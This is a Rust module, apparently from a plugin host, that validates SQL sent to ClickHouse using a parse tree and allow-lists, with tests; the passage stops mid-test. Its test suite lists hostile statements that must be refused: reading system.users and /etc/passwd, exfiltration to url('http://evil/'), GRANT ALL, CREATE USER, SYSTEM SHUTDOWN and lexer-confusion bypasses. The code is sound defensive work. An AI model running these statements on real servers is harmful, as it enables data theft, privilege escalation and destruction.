//! What a plugin may send to ClickHouse through `clickhouse.execute`: deny by default, decided
//! on a parse tree (sqlparser's ClickHouse dialect), never on the text.
//!
//! A statement is allowed only when all of this holds:
//! - the text is ASCII without control characters, comment markers (`--`, `/*`, `*/`, `#`),
//!   `;` or `$`: the places where two SQL lexers (sqlparser's and ClickHouse's) could disagree
//!   about what is code (Unicode spaces, nested comments, heredocs);
//! - it parses, as exactly one statement, of a kind a sink needs: `SELECT` (with `UNION`),
//!   `CREATE DATABASE [IF NOT EXISTS] db`, `CREATE TABLE [IF NOT EXISTS] db.t (...) ENGINE = ...`;
//!   rows are written with `insert-json-rows`, whose INSERT the host builds itself;
//! - every table is `database.table`, and the database is granted (never `system` or
//!   `information_schema`, granted or not);
//! - no table functions (`remote`, `url`, `file`, `merge`, ...), no `IN <table>`, no
//!   `GLOBAL IN`, no CTEs, no `SETTINGS`, no `INTO`; `IN (...)` lists hold constants only;
//! - every function is on [`FUNCTIONS`], every table engine on [`ENGINES`], every `FORMAT`
//!   on [`FORMATS`].
//!
//! One exception to "what sqlparser parses": it does not know ClickHouse's `DateTime('zone')`
//! column type, so in `CREATE TABLE` the token sequence `DateTime ( '<zone name>' )` is checked
//! as plain `DateTime` (the zone must be a plain zone name: letters, digits, `/_+-`).

use std::ops::ControlFlow;

use sqlparser::ast::{
    ColumnOption, CreateTableOptions, Expr, FormatClause, Function, InTarget, ObjectName,
    ObjectNamePart, Query, Select, SetExpr, SqlOption, Statement, TableFactor, UnaryOperator,
    Visit, Visitor,
};
use sqlparser::dialect::ClickHouseDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer};

use crate::config::ClickHouseGrant;

/// Longest statement accepted (the clickhouse plugin's id lookups stay far below).
pub const MAX_SQL_BYTES: usize = 1 << 20;

/// Never reachable, whatever a grant says.
const FORBIDDEN_DATABASES: &[&str] = &["system", "information_schema", "INFORMATION_SCHEMA"];

/// Functions a sink's statements may call: pure computations on the row at hand. Functions
/// that read other tables, files, URLs, dictionaries, settings or server state are absent
/// (`joinGet`, `dictGet*`, `file`, `url`, `hasColumnInTable`, `getSetting`, ...). Compared
/// case-insensitively.
#[rustfmt::skip]
pub const FUNCTIONS: &[&str] = &[
    // aggregates
    "count", "sum", "avg", "min", "max", "any", "anyLast", "argMin", "argMax", "uniq",
    "uniqExact", "uniqCombined", "groupArray", "groupUniqArray", "quantile", "quantiles",
    "quantileExact", "median", "topK", "countIf", "sumIf", "avgIf", "minIf", "maxIf",
    "uniqIf", "uniqExactIf", "anyIf", "argMaxIf", "argMinIf", "groupArrayIf",
    // conditionals and NULLs
    "if", "multiIf", "ifNull", "isNull", "isNotNull", "coalesce", "nullIf", "assumeNotNull",
    "toNullable",
    // conversions
    "toInt8", "toInt16", "toInt32", "toInt64", "toUInt8", "toUInt16", "toUInt32", "toUInt64",
    "toFloat32", "toFloat64", "toDecimal32", "toDecimal64", "toString", "toDate",
    "toDateTime", "toUnixTimestamp", "parseDateTimeBestEffort", "toTypeName",
    // dates
    "now", "today", "yesterday", "toYear", "toMonth", "toDayOfMonth", "toHour", "toMinute",
    "toYYYYMM", "toYYYYMMDD", "toStartOfMinute", "toStartOfFiveMinute",
    "toStartOfFifteenMinutes", "toStartOfHour", "toStartOfDay", "toStartOfMonth",
    "toMonday", "addSeconds", "addMinutes", "addHours", "addDays", "subtractSeconds",
    "subtractMinutes", "subtractHours", "subtractDays", "dateDiff", "formatDateTime",
    // arithmetic, comparison, logic
    "plus", "minus", "multiply", "divide", "intDiv", "modulo", "negate", "abs", "round",
    "floor", "ceil", "greatest", "least", "equals", "notEquals", "less", "greater",
    "lessOrEquals", "greaterOrEquals", "and", "or", "not", "xor", "sqrt", "exp", "log",
    "pow", "cityHash64", "sipHash64",
    // strings, arrays, tuples
    "length", "lower", "upper", "concat", "substring", "trim", "startsWith", "endsWith",
    "position", "like", "notLike", "replaceAll", "tuple", "tupleElement", "array", "has",
    "arrayJoin", "arrayElement", "arrayMap", "arrayFilter", "arraySort", "empty", "notEmpty",
];

/// Table engines a sink may create: local storage only. `Distributed`, `Merge`, `Buffer`,
/// `URL`, `File`, `MySQL`, `JDBC`, `Kafka`, `Dictionary`, ... reach other tables or machines.
pub const ENGINES: &[&str] = &[
    "MergeTree",
    "ReplacingMergeTree",
    "SummingMergeTree",
    "AggregatingMergeTree",
    "CollapsingMergeTree",
    "VersionedCollapsingMergeTree",
    "Memory",
    "Log",
    "TinyLog",
    "StripeLog",
];

/// Output formats of `SELECT ... FORMAT x`.
pub const FORMATS: &[&str] = &[
    "TabSeparated",
    "TSV",
    "TabSeparatedWithNames",
    "TSVWithNames",
    "TabSeparatedRaw",
    "CSV",
    "CSVWithNames",
    "JSON",
    "JSONCompact",
    "JSONEachRow",
    "Values",
];

/// Statements of one plugin checked already: the verdict by the statement's [`shape`].
///
/// A sink repeats a few statements with other constants: the clickhouse plugin looks up the
/// ids of every batch with `... WHERE event_id IN (<500 ids>)`, whose parse cost about 200 µs
/// a batch. The shape of such a statement, its integer lists collapsed, is the same every
/// time, and so is its verdict: the check reads tables, functions and clauses, never how many
/// integers a list holds.
#[derive(Debug, Default)]
pub struct CheckedStatements {
    verdicts: std::collections::HashMap<String, Result<(), String>>,
}

/// Distinct shapes remembered per plugin; past that the memo starts over (a plugin that
/// builds ever new statements gains nothing from it, and must not grow the host's memory).
const MEMO_SHAPES: usize = 256;

impl CheckedStatements {
    /// [`check_statement`], remembered by shape.
    pub fn check(&mut self, sql: &str, grant: &ClickHouseGrant) -> Result<(), String> {
        // The screen runs on the text itself: a collapsed list can hide nothing it refuses.
        screen_text(sql)?;
        let shape = shape(sql);
        if let Some(verdict) = self.verdicts.get(shape.as_ref()) {
            return verdict.clone();
        }
        let verdict = check_statement(&shape, grant);
        if self.verdicts.len() >= MEMO_SHAPES {
            self.verdicts.clear();
        }
        self.verdicts.insert(shape.into_owned(), verdict.clone());
        verdict
    }
}

/// `sql` with every `IN (<integer>, <integer>, ...)` list outside quotes written as `IN (0)`.
/// Only digits, signs, commas and whitespace are removed, so no quote, bracket or word of the
/// statement changes: it parses to the same tree but for the constants of those lists.
fn shape(sql: &str) -> std::borrow::Cow<'_, str> {
    let b = sql.as_bytes();
    let mut out: Option<String> = None;
    let (mut i, mut copied) = (0, 0);
    while i < b.len() {
        match b[i] {
            q @ (b'\'' | b'"' | b'`') => i = skip_quoted(b, i, q),
            c if (c == b'I' || c == b'i')
                && b.get(i + 1).is_some_and(|n| n.eq_ignore_ascii_case(&b'n'))
                && (i == 0 || !is_word_byte(b[i - 1])) =>
            {
                match integer_list(b, i + 2) {
                    Some((open, close)) => {
                        let out = out.get_or_insert_with(|| String::with_capacity(sql.len()));
                        out.push_str(&sql[copied..=open]);
                        out.push('0');
                        copied = close;
                        i = close;
                    }
                    None => i += 2,
                }
            }
            _ => i += 1,
        }
    }
    match out {
        Some(mut out) => {
            out.push_str(&sql[copied..]);
            std::borrow::Cow::Owned(out)
        }
        None => std::borrow::Cow::Borrowed(sql),
    }
}

fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// Past the quoted text opening at `at` (a doubled quote or a backslash escapes, as in
/// ClickHouse); the end of the text when it never closes (the parser then refuses it).
fn skip_quoted(b: &[u8], at: usize, quote: u8) -> usize {
    let mut i = at + 1;
    while i < b.len() {
        if b[i] == b'\\' {
            i += 2;
        } else if b[i] == quote {
            if b.get(i + 1) == Some(&quote) {
                i += 2;
            } else {
                return i + 1;
            }
        } else {
            i += 1;
        }
    }
    b.len()
}

/// After the `IN` ending before `from`: whitespace, `(`, one or more optionally signed
/// integers separated by commas, `)`. The positions of the `(` and the `)`.
fn integer_list(b: &[u8], from: usize) -> Option<(usize, usize)> {
    let ws = |mut i: usize| {
        while b.get(i).is_some_and(u8::is_ascii_whitespace) {
            i += 1;
        }
        i
    };
    let open = ws(from);
    if b.get(open) != Some(&b'(') {
        return None;
    }
    let mut i = open + 1;
    loop {
        i = ws(i);
        if matches!(b.get(i), Some(b'-' | b'+')) {
            i += 1;
        }
        let digits = i;
        while b.get(i).is_some_and(u8::is_ascii_digit) {
            i += 1;
        }
        if i == digits {
            return None;
        }
        i = ws(i);
        match b.get(i) {
            Some(b',') => i += 1,
            Some(b')') => return Some((open, i)),
            _ => return None,
        }
    }
}

/// Checks one statement a plugin wants `clickhouse.execute` to run. Err carries the reason
/// given to the plugin (`not-granted`).
pub fn check_statement(sql: &str, grant: &ClickHouseGrant) -> Result<(), String> {
    screen_text(sql)?;
    let statement = parse_one(sql)?;
    match &statement {
        Statement::Query(_) => {}
        Statement::CreateDatabase {
            db_name,
            if_not_exists,
            ..
        } => {
            let name = one_part(db_name)?;
            check_database(grant, &name)?;
            // Nothing but the name and IF NOT EXISTS: no ENGINE, clone or location.
            let plain = format!(
                "CREATE DATABASE {}{db_name}",
                if *if_not_exists { "IF NOT EXISTS " } else { "" }
            );
            if statement.to_string() != plain {
                return Err(format!(
                    "CREATE DATABASE may only name the database: `{statement}`"
                ));
            }
        }
        Statement::CreateTable(ct) => {
            check_table_name(grant, &ct.name)?;
            check_engine(&ct.table_options)?;
            for column in &ct.columns {
                for option in &column.options {
                    match &option.option {
                        ColumnOption::Null
                        | ColumnOption::NotNull
                        | ColumnOption::Default(_)
                        | ColumnOption::Materialized(_)
                        | ColumnOption::Alias(_)
                        | ColumnOption::Comment(_) => {}
                        other => {
                            return Err(format!(
                                "column option `{other}` of `{}` is not available to plugins",
                                column.name
                            ))
                        }
                    }
                }
            }
            // Anything beyond columns, engine and keys (AS SELECT, AS other_table, CLONE,
            // ON CLUSTER, ...) changes the rendering of the rebuilt statement.
            let kept = sqlparser::ast::helpers::stmt_create_table::CreateTableBuilder::new(
                ct.name.clone(),
            )
            .if_not_exists(ct.if_not_exists)
            .columns(ct.columns.clone())
            .table_options(ct.table_options.clone())
            .order_by(ct.order_by.clone())
            .partition_by(ct.partition_by.clone())
            .primary_key(ct.primary_key.clone())
            .build();
            if Statement::CreateTable(kept).to_string() != statement.to_string() {
                return Err(format!(
                    "CREATE TABLE may only have columns, ENGINE, PARTITION BY, ORDER BY and \
                     PRIMARY KEY: `{statement}`"
                ));
            }
        }
        other => {
            return Err(format!(
                "`{}` statements are not available to plugins (allowed: SELECT, CREATE \
                 DATABASE, CREATE TABLE; rows go through insert-json-rows)",
                statement_kind(other)
            ))
        }
    }
    match statement.visit(&mut Checker { grant }) {
        ControlFlow::Continue(()) => Ok(()),
        ControlFlow::Break(reason) => Err(reason),
    }
}

/// The database and table of `insert-json-rows`: plain identifiers, the database granted. The
/// host builds the INSERT from them, so nothing else of the plugin's reaches the SQL.
pub fn check_insert_target(
    grant: &ClickHouseGrant,
    database: &str,
    table: &str,
) -> Result<(), String> {
    for name in [database, table] {
        if !is_plain_identifier(name) {
            return Err(format!(
                "`{name}` is not a plain identifier ([A-Za-z_][A-Za-z0-9_]*)"
            ));
        }
    }
    check_database(grant, database)
}

/// A database the grant lists, and never a system one.
pub fn check_database(grant: &ClickHouseGrant, database: &str) -> Result<(), String> {
    if FORBIDDEN_DATABASES.contains(&database) {
        return Err(format!(
            "database `{database}` is never available to plugins"
        ));
    }
    if grant.databases.iter().any(|d| d == database) {
        Ok(())
    } else {
        Err(format!(
            "database `{database}` is not granted (granted: {:?})",
            grant.databases
        ))
    }
}

fn is_plain_identifier(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Refuses text where the two lexers could disagree, before any parsing.
fn screen_text(sql: &str) -> Result<(), String> {
    if sql.trim().is_empty() {
        return Err("empty statement".into());
    }
    if sql.len() > MAX_SQL_BYTES {
        return Err(format!("statement longer than {MAX_SQL_BYTES} bytes"));
    }
    if let Some(c) = sql
        .chars()
        .find(|c| !c.is_ascii() || (c.is_control() && !matches!(c, '\n' | '\t' | '\r')))
    {
        return Err(format!(
            "character {c:?} in the statement (ASCII without control characters only)"
        ));
    }
    for marker in ["--", "/*", "*/", "#", ";", "$"] {
        if sql.contains(marker) {
            return Err(format!(
                "`{marker}` is not allowed in statements (no comments, one statement per call)"
            ));
        }
    }
    Ok(())
}

pub(crate) fn parse_one(sql: &str) -> Result<Statement, String> {
    let dialect = ClickHouseDialect {};
    let tokens = Tokenizer::new(&dialect, sql)
        .tokenize_with_location()
        .map_err(|e| format!("cannot parse the statement: {e}"))?;
    let tokens = drop_datetime_zones(tokens)?;
    let mut statements = Parser::new(&dialect)
        .with_tokens_with_locations(tokens)
        .parse_statements()
        .map_err(|e| format!("cannot parse the statement: {e}"))?;
    match statements.len() {
        1 => Ok(statements.remove(0)),
        n => Err(format!("one statement per call, got {n}")),
    }
}

/// In a CREATE TABLE: `DateTime ( 'zone' )` -> `DateTime`, the zone checked (see module doc).
fn drop_datetime_zones(tokens: Vec<TokenWithSpan>) -> Result<Vec<TokenWithSpan>, String> {
    let code: Vec<&Token> = tokens
        .iter()
        .map(|t| &t.token)
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .collect();
    let is_word = |t: Option<&&Token>, w: &str| matches!(t, Some(Token::Word(word)) if word.quote_style.is_none() && word.value.eq_ignore_ascii_case(w));
    if !(is_word(code.first(), "CREATE") && is_word(code.get(1), "TABLE")) {
        return Ok(tokens);
    }
    let mut out: Vec<TokenWithSpan> = Vec::with_capacity(tokens.len());
    let mut i = 0;
    while i < tokens.len() {
        let is_datetime = matches!(&tokens[i].token, Token::Word(w) if w.quote_style.is_none() && w.value == "DateTime");
        // Only the compact form the plugin writes: no whitespace inside the parentheses.
        if is_datetime {
            if let (
                Some(Token::LParen),
                Some(Token::SingleQuotedString(zone)),
                Some(Token::RParen),
            ) = (
                tokens.get(i + 1).map(|t| &t.token),
                tokens.get(i + 2).map(|t| &t.token),
                tokens.get(i + 3).map(|t| &t.token),
            ) {
                let plain_zone = !zone.is_empty()
                    && zone
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "/_+-".contains(c));
                if !plain_zone {
                    return Err(format!("`DateTime('{zone}')`: not a time zone name"));
                }
                out.push(tokens[i].clone());
                i += 4;
                continue;
            }
        }
        out.push(tokens[i].clone());
        i += 1;
    }
    Ok(out)
}

fn statement_kind(statement: &Statement) -> String {
    let text = statement.to_string();
    text.split_whitespace()
        .take(2)
        .collect::<Vec<_>>()
        .join(" ")
}

fn one_part(name: &ObjectName) -> Result<String, String> {
    match name.0.as_slice() {
        [ObjectNamePart::Identifier(id)] => Ok(id.value.clone()),
        _ => Err(format!("`{name}` must be a single database name")),
    }
}

/// `database.table` with a granted database.
fn check_table_name(grant: &ClickHouseGrant, name: &ObjectName) -> Result<(), String> {
    match name.0.as_slice() {
        [ObjectNamePart::Identifier(db), ObjectNamePart::Identifier(_)] => {
            check_database(grant, &db.value)
        }
        _ => Err(format!(
            "table `{name}` must be written `database.table` with a granted database"
        )),
    }
}

/// Exactly one option, `ENGINE = <allowed engine>[(args)]`.
fn check_engine(options: &CreateTableOptions) -> Result<(), String> {
    let list = match options {
        CreateTableOptions::Plain(list) | CreateTableOptions::TableProperties(list) => list,
        CreateTableOptions::None => return Err("CREATE TABLE needs an ENGINE".into()),
        other => {
            return Err(format!(
                "table options `{other}` are not available to plugins"
            ))
        }
    };
    match list.as_slice() {
        [SqlOption::NamedParenthesizedList(engine)]
            if engine.key.value.eq_ignore_ascii_case("ENGINE") =>
        {
            let name = engine.name.as_ref().map(|n| n.value.as_str()).unwrap_or("");
            if ENGINES.contains(&name) {
                Ok(())
            } else {
                Err(format!(
                    "table engine `{name}` is not available to plugins (allowed: {ENGINES:?})"
                ))
            }
        }
        _ => Err(format!(
            "CREATE TABLE may have the ENGINE option only, got `{}`",
            list.iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join(" ")
        )),
    }
}

/// A literal, possibly negated, or a tuple of them: what `IN (...)` may list.
fn is_constant(e: &Expr) -> bool {
    match e {
        Expr::Value(_) => true,
        Expr::UnaryOp {
            op: UnaryOperator::Minus | UnaryOperator::Plus,
            expr,
        } => is_constant(expr),
        Expr::Nested(inner) => is_constant(inner),
        Expr::Tuple(items) => items.iter().all(is_constant),
        _ => false,
    }
}

/// Walks the whole tree: every table, expression and (sub)query of the statement.
struct Checker<'a> {
    grant: &'a ClickHouseGrant,
}

impl Checker<'_> {
    fn function(&self, f: &Function) -> ControlFlow<String> {
        let name = match f.name.0.as_slice() {
            [ObjectNamePart::Identifier(id)] => id.value.as_str(),
            _ => return ControlFlow::Break(format!("function `{}` is not available", f.name)),
        };
        if FUNCTIONS.iter().any(|a| a.eq_ignore_ascii_case(name)) {
            ControlFlow::Continue(())
        } else {
            ControlFlow::Break(format!(
                "function `{name}` is not available to plugins (see the allow-list in \
                 host/src/plugin/clickhouse_sql.rs)"
            ))
        }
    }
}

fn refuse(reason: impl Into<String>) -> ControlFlow<String> {
    ControlFlow::Break(reason.into())
}

impl Visitor for Checker<'_> {
    type Break = String;

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<String> {
        if q.with.is_some() {
            return refuse("WITH (common table expressions) is not available to plugins");
        }
        if q.settings.is_some() {
            return refuse("SETTINGS is not available to plugins");
        }
        if q.for_clause.is_some() || !q.locks.is_empty() || !q.pipe_operators.is_empty() {
            return refuse(format!("`{q}`: clause not available to plugins"));
        }
        match &q.format_clause {
            None => {}
            Some(FormatClause::Identifier(f)) if FORMATS.contains(&f.value.as_str()) => {}
            Some(other) => return refuse(format!("`{other}` is not available to plugins")),
        }
        if !matches!(
            q.body.as_ref(),
            SetExpr::Select(_) | SetExpr::Query(_) | SetExpr::SetOperation { .. }
        ) {
            return refuse(format!("`{}` is not available to plugins", q.body));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<String> {
        if s.into.is_some() {
            return refuse("SELECT ... INTO is not available to plugins");
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<String> {
        match t {
            TableFactor::Table {
                name,
                args,
                with_hints,
                version,
                partitions,
                json_path,
                ..
            } => {
                if args.is_some() {
                    return refuse(format!(
                        "table function `{name}(...)` is not available to plugins"
                    ));
                }
                if !with_hints.is_empty()
                    || version.is_some()
                    || !partitions.is_empty()
                    || json_path.is_some()
                {
                    return refuse(format!("`{t}` is not available to plugins"));
                }
                match check_table_name(self.grant, name) {
                    Ok(()) => ControlFlow::Continue(()),
                    Err(e) => ControlFlow::Break(e),
                }
            }
            TableFactor::Derived { .. } | TableFactor::NestedJoin { .. } => {
                ControlFlow::Continue(())
            }
            other => refuse(format!("`{other}` is not available to plugins")),
        }
    }

    /// Every name sqlparser reads as a table (FROM, JOIN, `IN table`, ...), belt and braces.
    fn pre_visit_relation(&mut self, name: &ObjectName) -> ControlFlow<String> {
        match check_table_name(self.grant, name) {
            Ok(()) => ControlFlow::Continue(()),
            Err(e) => ControlFlow::Break(e),
        }
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<String> {
        match e {
            Expr::Function(f) => self.function(f),
            Expr::In { global: true, .. } => refuse("GLOBAL IN is not available to plugins"),
            Expr::In { target, .. } => match target {
                InTarget::List(items) if items.iter().all(is_constant) => ControlFlow::Continue(()),
                InTarget::List(_) => refuse(format!(
                    "`{e}`: IN lists may hold constants only (IN <table> is not available)"
                )),
                InTarget::Subquery(_) => ControlFlow::Continue(()),
                other => refuse(format!("`IN {other}` is not available to plugins")),
            },
            Expr::CompoundIdentifier(parts) if parts.len() > 2 => refuse(format!(
                "`{e}`: database.table.column references are not available to plugins"
            )),
            _ => ControlFlow::Continue(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn grant(dbs: &[&str]) -> ClickHouseGrant {
        ClickHouseGrant {
            databases: dbs.iter().map(|d| d.to_string()).collect(),
            max_result_bytes: None,
        }
    }

    /// The verdict, which the memo by shape must give too (fresh and remembered).
    fn check(sql: &str) -> Result<(), String> {
        let g = grant(&["engagement", "db1"]);
        let verdict = check_statement(sql, &g);
        let mut memo = CheckedStatements::default();
        assert_eq!(memo.check(sql, &g), verdict, "memo, first time: {sql}");
        assert_eq!(memo.check(sql, &g), verdict, "memo, remembered: {sql}");
        verdict
    }

    /// Config::ddl() and Config::lookup_sql() of plugins/clickhouse, verbatim (the plugin is
    /// a wasm crate of another workspace; its own tests pin the same text).
    fn plugin_statements() -> Vec<String> {
        vec![
            "CREATE DATABASE IF NOT EXISTS `engagement`".to_string(),
            "CREATE TABLE IF NOT EXISTS `engagement`.`events_enriched` (\n\
             \x20   event_id Int64,\n\
             \x20   content_id Nullable(Int64),\n\
             \x20   user_id Nullable(Int64),\n\
             \x20   event_type Nullable(String),\n\
             \x20   event_ts DateTime('UTC'),\n\
             \x20   duration_ms Nullable(Int32),\n\
             \x20   device Nullable(String),\n\
             \x20   content_type Nullable(String),\n\
             \x20   length_seconds Nullable(Int32),\n\
             \x20   engagement_seconds Nullable(Float64),\n\
             \x20   engagement_pct Nullable(Float64)\n\
             ) ENGINE = ReplacingMergeTree() ORDER BY event_id PARTITION BY toYYYYMM(event_ts)"
                .to_string(),
            "SELECT DISTINCT event_id FROM `engagement`.`events_enriched` WHERE event_id IN \
             (1,2,-3) FORMAT TabSeparated"
                .to_string(),
        ]
    }

    #[test]
    fn the_default_plugins_statements_pass() {
        for sql in plugin_statements() {
            assert_eq!(check(&sql), Ok(()), "{sql}");
        }
    }

    #[test]
    fn ordinary_sink_statements_pass() {
        for sql in [
            "SELECT content_id, avg(engagement_pct) FROM engagement.events_enriched GROUP BY content_id",
            "SELECT count(), uniqExact(event_id) FROM engagement.events_enriched FINAL",
            "SELECT 1",
            "SELECT a.x FROM engagement.a AS a JOIN db1.b AS b ON a.x = b.x WHERE b.y > 2 LIMIT 10",
            "SELECT x FROM engagement.t WHERE x IN (SELECT x FROM db1.u)",
            "SELECT x FROM engagement.t UNION ALL SELECT x FROM db1.u",
            "SELECT quantile(0.9)(engagement_pct) FROM engagement.events_enriched",
            "SELECT if(isNull(x), 0, x) FROM (SELECT x FROM engagement.t)",
            "CREATE DATABASE db1",
            "CREATE TABLE db1.t (id UInt64, s String DEFAULT 'a', ts DateTime('Europe/Paris')) ENGINE = MergeTree() ORDER BY id",
            "CREATE TABLE db1.t (id UInt64) ENGINE = Memory",
        ] {
            assert_eq!(check(sql), Ok(()), "{sql}");
        }
    }

    /// The 26 bypasses of issue 9 against the lexical check, and relatives.
    #[test]
    fn hostile_statements_are_refused() {
        let hostile = [
            // comments hiding code from a lexer
            "SELECT * FROM engagement.t -- '\nsystem.users -- '",
            "SELECT * FROM -- '\nsystem.users -- '",
            "SELECT * FROM system/**/.users",
            "SELECT * FROM engagement.t # '\n, system.users",
            // other databases, system ones, unqualified names
            "SELECT * FROM system.users",
            "SELECT * FROM system.tables",
            "SELECT * FROM `system`.`users`",
            "SELECT * FROM \"system\".\"users\"",
            "SELECT * FROM users",
            "SELECT * FROM secret.users",
            "SELECT * FROM engagement.t JOIN secret.u ON 1 = 1",
            "SELECT * FROM engagement.t WHERE x IN (SELECT x FROM secret.u)",
            "SELECT (SELECT max(x) FROM system.processes) FROM engagement.t",
            "SELECT * FROM (SELECT * FROM system.users)",
            "SELECT x FROM engagement.t UNION ALL SELECT name FROM system.users",
            "SELECT system.users.name FROM engagement.t",
            "SHOW TABLES FROM system",
            "SHOW DATABASES",
            "USE system",
            "DESCRIBE TABLE system.users",
            // table functions
            "SELECT * FROM remote('127.0.0.1', system.users)",
            "SELECT * FROM remote('127.0.0.1', engagement.t)",
            "SELECT * FROM url('http://evil/', CSV, 'a String')",
            "SELECT * FROM file('/etc/passwd', CSV, 'a String')",
            "SELECT * FROM merge('system', '.*')",
            "SELECT * FROM postgresql('h:5432', 'db', 't', 'u', 'p')",
            "SELECT * FROM numbers(10)",
            "SELECT * FROM engagement.t JOIN url('http://evil/', CSV, 'a String') AS u ON 1 = 1",
            // IN <table>
            "SELECT 1 FROM engagement.t WHERE x IN system.users",
            "SELECT 1 FROM engagement.t WHERE x IN users",
            "SELECT 1 FROM engagement.t WHERE x IN (name)",
            "SELECT 1 FROM engagement.t WHERE x GLOBAL IN (1, 2)",
            // data out of the machine, writes
            "INSERT INTO FUNCTION url('http://evil/', 'CSV', 'a String') VALUES ('a')",
            "INSERT INTO FUNCTION url('http://evil/', 'CSV', 'a String') SELECT name FROM system.users",
            "INSERT INTO engagement.t VALUES (1)",
            "INSERT INTO engagement.t SELECT * FROM system.users",
            "ALTER TABLE engagement.t DELETE WHERE 1",
            "DROP TABLE engagement.t",
            "DROP DATABASE engagement",
            "TRUNCATE TABLE engagement.t",
            "RENAME TABLE engagement.t TO secret.t",
            // access and server control
            "GRANT ALL ON *.* TO fanout",
            "REVOKE ALL ON *.* FROM default",
            "CREATE USER evil IDENTIFIED BY 'x'",
            "SYSTEM SHUTDOWN",
            "SYSTEM RELOAD CONFIG",
            "KILL QUERY WHERE 1",
            "KILL QUERY WHERE user = 'default'",
            "SET readonly = 0",
            "OPTIMIZE TABLE engagement.t FINAL",
            // several statements
            "SELECT 1; SELECT * FROM system.users",
            "SELECT 1;",
            // functions reaching outside the row
            "SELECT joinGet('secret.j', 'v', 1)",
            "SELECT dictGetString('d', 'a', toUInt64(1))",
            "SELECT file('x')",
            "SELECT hasColumnInTable('system', 'users', 'name')",
            "SELECT getSetting('readonly')",
            "SELECT currentUser()",
            "SELECT x FROM engagement.t SETTINGS max_memory_usage = 1",
            "WITH s AS (SELECT name FROM system.users) SELECT * FROM s",
            // DDL reaching other databases or machines
            "CREATE DATABASE secret",
            "CREATE DATABASE IF NOT EXISTS system",
            "CREATE TABLE secret.t (id UInt64) ENGINE = Memory",
            "CREATE TABLE t (id UInt64) ENGINE = Memory",
            "CREATE TABLE engagement.t (id UInt64) ENGINE = Merge(system, '.*')",
            "CREATE TABLE engagement.t (id UInt64) ENGINE = Distributed(c, system, users)",
            "CREATE TABLE engagement.t (id UInt64) ENGINE = URL('http://evil/', CSV)",
            "CREATE TABLE engagement.t (id UInt64) ENGINE = File(CSV)",
            "CREATE TABLE engagement.t (id UInt64) ENGINE = Buffer(secret, t, 16, 1, 1, 1, 1, 1, 1)",
            "CREATE TABLE engagement.t AS system.users",
            "CREATE TABLE engagement.t ENGINE = Memory AS SELECT * FROM system.users",
            "CREATE TABLE engagement.t (id UInt64 DEFAULT joinGet('secret.j', 'v', 1)) ENGINE = Memory",
            "CREATE TABLE engagement.t (id UInt64) ENGINE = MergeTree() ORDER BY (SELECT 1 FROM system.users)",
            "CREATE TABLE engagement.t (ts DateTime('UTC\\' x')) ENGINE = Memory",
            "CREATE VIEW engagement.v AS SELECT * FROM system.users",
            "CREATE MATERIALIZED VIEW engagement.v ENGINE = Memory AS SELECT * FROM secret.t",
            "ATTACH TABLE engagement.t",
            // garbage
            "",
            "   ",
            "SELEC 1",
            "SELECT \u{0} FROM engagement.t",
            "SELECT * FROM engagement.t\u{a0}JOIN system.tables AS s ON 1 = 1",
            "SELECT * FROM engagement.t\u{2028}, system.tables",
            "SELECT 'caf\u{e9}' FROM system.tables",
            "SELECT $$x$$",
        ];
        for sql in hostile {
            let r = check(sql);
            assert!(r.is_err(), "must be refused: {sql}");
        }
    }

    #[test]
    fn shapes_collapse_integer_lists_outside_quotes_only() {
        let cases = [
            (
                "SELECT a FROM db1.t WHERE a IN (1, -2,3) AND b NOT in(4)",
                "SELECT a FROM db1.t WHERE a IN (0) AND b NOT in(0)",
            ),
            // Not integer lists, or not an IN: left as they are.
            (
                "SELECT a FROM db1.t WHERE a IN (1.5, 2)",
                "SELECT a FROM db1.t WHERE a IN (1.5, 2)",
            ),
            (
                "SELECT a FROM db1.t WHERE a IN (x, 2)",
                "SELECT a FROM db1.t WHERE a IN (x, 2)",
            ),
            (
                "SELECT JOIN(1, 2) FROM db1.t",
                "SELECT JOIN(1, 2) FROM db1.t",
            ),
            ("SELECT min(1,2) FROM db1.t", "SELECT min(1,2) FROM db1.t"),
            // Inside quotes nothing changes, escapes and doubled quotes included.
            (
                "SELECT 'a IN (1,2)', `b IN (3)`, \"c\"\"IN (4)\", 'd\\' IN (5)' FROM db1.t",
                "SELECT 'a IN (1,2)', `b IN (3)`, \"c\"\"IN (4)\", 'd\\' IN (5)' FROM db1.t",
            ),
            (
                "SELECT 'x' IN (7,8) FROM db1.t",
                "SELECT 'x' IN (0) FROM db1.t",
            ),
        ];
        for (sql, want) in cases {
            assert_eq!(shape(sql), want, "{sql}");
        }
    }

    #[test]
    fn remembered_verdicts_equal_fresh_ones() {
        let g = grant(&["engagement", "db1"]);
        let mut memo = CheckedStatements::default();
        let mut statements = plugin_statements();
        statements.extend(
            [
                "SELECT a FROM db1.t WHERE a IN (1,2,3)",
                "SELECT a FROM db1.t WHERE a IN (4,5)",
                "SELECT a FROM system.tables WHERE a IN (1,2,3)",
                "SELECT a FROM db1.t WHERE a IN (SELECT b FROM system.users)",
                "SELECT a FROM db1.t WHERE a IN (1) -- IN (2)",
                "SELECT url('x') FROM db1.t WHERE a IN (1,2)",
                "SELECT a FROM db1.t WHERE a GLOBAL IN (1,2)",
            ]
            .map(String::from),
        );
        for _ in 0..2 {
            for sql in &statements {
                assert_eq!(memo.check(sql, &g), check_statement(sql, &g), "{sql}");
            }
        }
        assert!(
            memo.verdicts.len() < statements.len(),
            "equal shapes share a verdict"
        );
    }

    #[test]
    fn a_full_lookup_chunk_passes() {
        // The plugin's lookup_chunk default: 5000 ids in one IN list.
        let ids: Vec<String> = (1..=5000).map(|i| (i * 7_919).to_string()).collect();
        let sql = format!(
